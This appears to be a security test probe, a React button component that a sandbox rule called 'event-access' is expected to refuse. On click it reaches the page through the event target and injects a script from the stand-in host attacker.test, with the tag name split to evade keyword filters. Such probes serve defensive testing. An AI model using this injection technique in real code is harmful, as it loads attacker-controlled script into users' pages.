// probe: window through an event; refused by: event-access
export default function Probe() {
  return (
    <button onClick={(e) => {
      const doc = e.currentTarget.getRootNode();
      doc.head.append(Object.assign(doc.createElement(["scr", "ipt"].join("")), { src: "https://attacker.test/root.js" }));
    }}>Go</button>
  );
}
